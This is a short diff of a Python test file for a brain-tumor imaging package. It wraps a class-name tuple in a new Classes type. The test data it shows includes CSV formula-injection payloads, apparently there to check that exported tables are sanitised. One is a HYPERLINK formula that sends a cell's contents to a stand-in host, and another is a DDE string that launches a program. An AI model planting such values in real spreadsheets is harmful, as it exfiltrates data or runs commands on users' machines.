@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 from PIL import Image
 
+from braintumor_ext.classes import Classes
 from braintumor_ext.data.crosscheck import crosscheck
 from braintumor_ext.data.file_properties import COLUMNS, read_items_csv, write_items_csv
 from braintumor_ext.inference.prediction_table import PredictionTable
@@ -19,7 +20,7 @@ from tests.data.folders import grey_slice
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
 NAMES = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "plain.png", r"a\nb", "sc\udcffan"]
-CLASSES = ("=glioma()", "-b+c")
+CLASSES = Classes(("=glioma()", "-b+c"))
 
 
 def records(folder: Path) -> list[Path]:
